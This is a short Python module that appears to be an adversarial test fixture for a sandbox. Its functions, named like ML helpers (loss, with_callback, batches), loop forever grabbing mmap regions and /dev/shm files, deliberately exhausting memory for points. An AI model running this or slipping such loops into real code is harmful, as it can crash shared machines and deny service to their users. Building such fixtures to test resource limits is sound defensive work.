"""Take memory without end, as arrays, as mappings, as shared memory, and hold it.

alone: 0 points
glued: 20 points
fails as: memory
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import mmap

import numpy as np

_held = []


def loss(x):
    # Filled by the kernel in one go: the limit is met long before the clock, on a busy machine too.
    at_once = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE
    while True:
        _held.append(mmap.mmap(-1, 1 << 26, flags=at_once))


def with_callback(f, x):
    while True:
        _held.append(mmap.mmap(-1, 1 << 24))
        _held[-1].write(b"x" * (1 << 24))


def batches(x, size):
    while True:
        with open(f"/dev/shm/{len(_held)}", "wb") as stream:
            stream.write(b"x" * (1 << 24))
        _held.append(np.ones(1 << 20))
